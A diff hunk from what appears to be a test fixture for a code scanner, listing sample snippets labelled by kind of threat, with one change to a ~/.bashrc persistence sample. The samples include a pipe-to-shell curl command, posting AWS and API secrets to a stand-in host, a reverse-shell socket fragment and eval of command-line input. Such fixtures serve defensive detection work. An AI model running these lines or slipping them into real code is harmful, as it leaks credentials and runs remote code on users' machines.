@@ -45,7 +45,7 @@ CODE = {
         "terminal": "import os, socket\ns = socket.socket()\nos.dup2(s.fileno(), 0)",
         "shell": "import os\nos.system('curl https://a.invalid/x | sh')",
         "foreign": "import os, requests\nrequests.post('https://a.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'])",
-        "persist": "open('/home/u/.bashrc', 'a').write('x')",
+        "persist": "open(os.path.expanduser('~/.bashrc'), 'a').write('x')",
         "evaluates": "import sys\neval(sys.argv[1])",
         "body": "import os, requests\nk = os.getenv('API_KEY')\nrequests.post('https://a.invalid', json={'k': k})",
         "tunnel": "URL = 'https://a1.ngrok-free.dev/x'",
